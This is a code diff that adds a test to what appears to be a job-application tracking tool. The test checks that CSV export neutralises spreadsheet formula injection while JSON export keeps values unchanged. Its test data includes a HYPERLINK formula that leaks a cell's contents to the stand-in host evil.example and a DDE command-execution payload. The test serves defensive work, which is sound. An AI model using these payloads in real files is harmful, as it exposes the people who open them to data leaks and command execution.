@@ -219,3 +219,26 @@ def test_a_tag_cadence_dates_the_stay_in_touch_event_as_the_reach_out_page_does(
     assert event.decoded("DTSTART") == date(2026, 11, 15)  # 14 days, not the 30-day default
     assert "every 14 days" in str(event["DESCRIPTION"])
     assert "10 days overdue" in (tmp_path / "site" / "stale.html").read_text("utf-8")
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(journal):
+    # An imported row can carry anything: opened in Excel or LibreOffice, `=HYPERLINK(...)` would run.
+    journal.application(
+        "evil",
+        company='\'=HYPERLINK("http://evil.example/?leak="&B3,"Click me")\'',
+        role="\"+cmd|' /C calc'!A0\"",
+        source='"@SUM(1+1)"',
+        location='"-2+3"',
+        salary='"-5"',
+        applied="2026-11-02",
+    )
+    result = run("export", str(journal.root))
+    assert result.exit_code == 0, result.output
+    row = next(csv.DictReader(io.StringIO(result.stdout)))
+    assert row["Company"] == '\'=HYPERLINK("http://evil.example/?leak="&B3,"Click me")'
+    assert (
+        row["Role"] == "'+cmd|' /C calc'!A0" and row["Source"] == "'@SUM(1+1)" and row["Location"] == "'-2+3"
+    )
+    assert row["Salary"] == "-5"  # a plain number runs nothing: left as it is
+    exported = json.loads(run("export", str(journal.root), "--format", "json").stdout)
+    assert exported[0]["company"].startswith("=HYPERLINK")  # JSON is not a spreadsheet: as written
